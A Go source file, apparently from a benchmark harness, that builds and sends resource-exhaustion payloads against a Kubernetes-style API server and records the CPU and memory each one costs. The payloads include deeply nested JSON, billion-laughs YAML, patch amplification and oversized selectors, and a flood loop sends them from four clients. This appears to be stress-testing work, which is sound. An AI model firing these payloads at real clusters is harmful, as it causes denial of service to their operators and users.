package main

import (
	"context"
	"fmt"
	"strings"
	"sync/atomic"

	"kubexx.example/bench/internal/measure"
)

// A request whose body costs the server more than it costs who sends it.
type bomb struct{ method, path, contentType, body string }

// bombs sends them in turn, from 4 clients, as fast as they are answered.
func bombs(kinds func() []bomb) func(context.Context, *target) *crowd {
	return func(ctx context.Context, t *target) *crowd {
		prepareBombs(ctx, t)
		all := kinds()
		var next atomic.Int64
		return repeatWith(ctx, t, 4, func(ctx context.Context, c *client) {
			one := all[int(next.Add(1))%len(all)]
			_, _, _ = c.do(ctx, one.method, one.path, one.contentType, one.bytes())
		})
	}
}

func prepareBombs(ctx context.Context, t *target) {
	writer := prepare(ctx, t, 1, 1000)
	defer writer.close()
	_, _, _ = writer.do(ctx, "POST", workloads, jsonType, []byte(deployment(1)))
}

// eachAlone prints what each of them costs the server.
func eachAlone(ctx context.Context, t *target, pid int) error {
	prepareBombs(ctx, t)
	c := &client{target: t}
	defer c.close()
	for _, kind := range []struct {
		name string
		all  []bomb
	}{{"json", jsonBombs()}, {"yaml", yamlBombs()}, {"patches", patchBombs()}, {"selectors", selectorBombs()}} {
		for i, one := range kind.all {
			before, err := cpuSeconds(pid)
			if err != nil {
				return err
			}
			most := watchProcess(pid)
			code, answer, failure := c.do(ctx, one.method, one.path, one.contentType, one.bytes())
			peak := most()
			after, err := cpuSeconds(pid)
			if err != nil {
				return err
			}
			measure.Print(map[string]any{"program": "attack", "attack": fmt.Sprintf("%s %d", kind.name, i), "bytes": len(one.body), "cpu_s": measure.Round(after-before, 2),
				"code": code, "failed": failure != nil, "answer": fmt.Sprintf("%.120s", answer), "rss_peak_mb": peak.residentMB})
		}
	}
	return nil
}

const (
	jsonType  = "application/json"
	yamlType  = "application/yaml"
	maps      = attackRoom + "/configmaps"
	oneMap    = maps + "/noise-0"
	workload  = "/apis/apps/v1/namespaces/attack/deployments/bomb"
	workloads = "/apis/apps/v1/namespaces/attack/deployments"
)

func configMap(members string) string {
	return `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"generateName":"bomb-"},` + members + `}`
}

func list(count int, element func(i int) string) string {
	elements := make([]string, count)
	for i := range elements {
		elements[i] = element(i)
	}
	return strings.Join(elements, ",")
}

func deployment(variables int) string {
	return `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"bomb"},"spec":{"replicas":0,"selector":{"matchLabels":{"a":"b"}},
"template":{"metadata":{"labels":{"a":"b"}},"spec":{"containers":[{"name":"c","image":"i","env":[` +
		list(variables, func(i int) string { return fmt.Sprintf(`{"name":"v%d","value":"%d"}`, i, i) }) + `]}]}}}}`
}

func jsonBombs() []bomb {
	post := func(body string) bomb { return bomb{"POST", maps, jsonType, body} }
	return []bomb{
		post(strings.Repeat("[", 1_400_000) + strings.Repeat("]", 1_400_000)),
		post(configMap(`"data":` + strings.Repeat(`{"a":`, 400_000) + "1" + strings.Repeat("}", 400_000))),
		post(configMap(`"immutable":` + strings.Repeat("9", 2_800_000))),
		post(configMap(`"data":{"a":1e999999999}`)),
		post(configMap(`"data":{` + list(150_000, func(i int) string { return fmt.Sprintf(`"k%d":"v"`, i) }) + `}`)),
		post(configMap(`"data":{` + list(300_000, func(i int) string { return `"k":"v"` }) + `}`)),
		post(configMap(list(200_000, func(i int) string { return fmt.Sprintf(`"x%d":1`, i) }))),
		// What is not known is told in a header.
		{"POST", maps + "?dryRun=All", jsonType, configMap(`"` + strings.Repeat("x", 70_000) + `":1`)},
		post(configMap(`"data":{"a":"` + strings.Repeat(`\u0000`, 400_000) + `"}`)),
		post(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"bomb","managedFields":[` +
			list(20_000, func(i int) string {
				return fmt.Sprintf(`{"manager":"m%d","operation":"Update","apiVersion":"v1","fieldsType":"FieldsV1","fieldsV1":{"f:data":{"f:k%d":{}}}}`, i, i)
			}) + `]}}`),
		{"POST", workloads, jsonType, strings.Replace(deployment(60_000), `"name":"bomb"`, `"generateName":"bomb-"`, 1)},
	}
}

func yamlBombs() []bomb {
	laughs := "a0: &a0 [x,x,x,x,x,x,x,x,x]\n"
	for i := 1; i < 12; i++ {
		laughs += fmt.Sprintf("a%d: &a%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i-1), 9), ","))
	}
	head := "apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: bomb-}\n"
	merges := "m0: &m0 {k: v}\n"
	for i := 1; i < 2000; i++ {
		merges += fmt.Sprintf("m%d: &m%d\n  <<: *m%d\n  k%d: v\n", i, i, i-1, i)
	}
	post := func(body string) bomb { return bomb{"POST", maps, yamlType, body} }
	apply := func(body string) bomb {
		return bomb{"PATCH", oneMap + "?fieldManager=bomb&force=true", "application/apply-patch+yaml", body}
	}
	named := strings.Replace(head, "generateName: bomb-", "name: noise-0", 1)
	return []bomb{
		post(head + laughs),
		apply(named + laughs),
		post(head + merges),
		post(head + "data: " + strings.Repeat("[", 500_000)),
		post(head + "data: " + strings.Repeat("{a: ", 300_000)),
		post(head + "data:\n" + strings.ReplaceAll(list(100_000, func(i int) string { return fmt.Sprintf("  k%d: v\n", i) }), ",", "")),
		apply(named + "data:\n" + strings.ReplaceAll(list(100_000, func(i int) string { return fmt.Sprintf("  k%d: v\n", i) }), ",", "")),
		post(head + strings.Repeat("? ", 200_000)),
		post(head + strings.Repeat("- ", 500_000)),
	}
}

func patchBombs() []bomb {
	const jsonPatch, mergePatch, strategic = "application/json-patch+json", "application/merge-patch+json", "application/strategic-merge-patch+json"
	double := func(to string) func(i int) string {
		return func(i int) string { return fmt.Sprintf(`{"op":"copy","from":"/data","path":"/%s%d"}`, to, i) }
	}
	return []bomb{
		{"PATCH", oneMap, jsonPatch, "[" + list(40, double("data/x")) + "]"},
		{"PATCH", oneMap, jsonPatch, "[" + list(40_000, double("y")) + "]"},
		{"PATCH", oneMap, jsonPatch, `[{"op":"add","path":"/data/l","value":[]},` + list(50_000, func(i int) string { return `{"op":"add","path":"/data/l/0","value":1}` }) + "]"},
		{"PATCH", oneMap, jsonPatch, `[{"op":"add","path":"/data/l","value":[` + list(60_000, func(i int) string { return "0" }) + `]},` +
			list(2_000, func(i int) string { return `{"op":"remove","path":"/data/l/0"}` }) + "]"},
		{"PATCH", oneMap, jsonPatch, `[{"op":"test","path":"` + strings.Repeat("/a", 1_000_000) + `","value":1}]`},
		{"PATCH", oneMap, mergePatch, strings.Repeat(`{"data":`, 300_000) + "1" + strings.Repeat("}", 300_000)},
		{"PATCH", workload, strategic, `{"spec":{"template":{"spec":{"containers":[{"name":"c","env":[` +
			list(30_000, func(i int) string { return fmt.Sprintf(`{"name":"w%d","value":"x"}`, i) }) + `]}]}}}}`},
		{"PATCH", workload, strategic, `{"spec":{"template":{"spec":{"containers":[{"name":"c","env":[` +
			list(30_000, func(i int) string { return fmt.Sprintf(`{"name":"w%d","$patch":"delete"}`, i) }) + `]}]}}}}`},
		{"PATCH", workload, strategic, `{"spec":{"template":{"spec":{"containers":[{"name":"c","$setElementOrder/env":[` +
			list(30_000, func(i int) string { return fmt.Sprintf(`{"name":"w%d"}`, 30_000-i) }) + `]}]}}}}`},
		{"PATCH", workload, "application/strategic-merge-patch+json", `{"spec":` + strings.Repeat(`{"template":`, 100_000) + "1" + strings.Repeat("}", 100_001)},
		{"PATCH", workload + "?fieldManager=bomb&force=true", "application/apply-patch+yaml", deployment(30_000)},
		{"PATCH", workload + "?fieldManager=bomb&force=true", "application/apply-patch+yaml", strings.ReplaceAll(deployment(30_000), `"v1`, `"v`)},
	}
}

func selectorBombs() []bomb {
	get := func(query string) bomb { return bomb{"GET", room + "/configmaps?" + query, "", ""} }
	terms := list(8000, func(i int) string { return fmt.Sprintf("k%d!%%3D%d", i, i) })
	return []bomb{
		get("labelSelector=" + terms),
		get("labelSelector=a+in+(" + terms + ")"),
		get("labelSelector=a+in+(" + list(8000, func(i int) string { return fmt.Sprintf("v%d", i) }) + ")"),
		get("fieldSelector=" + terms),
		get("labelSelector=" + strings.Repeat("(", 100_000)),
		get("limit=" + strings.Repeat("9", 100_000)),
		get("continue=" + strings.Repeat("A", 100_000)),
	}
}

// bytes are nil when there is no body.
func (b bomb) bytes() []byte {
	if b.body == "" {
		return nil
	}
	return []byte(b.body)
}
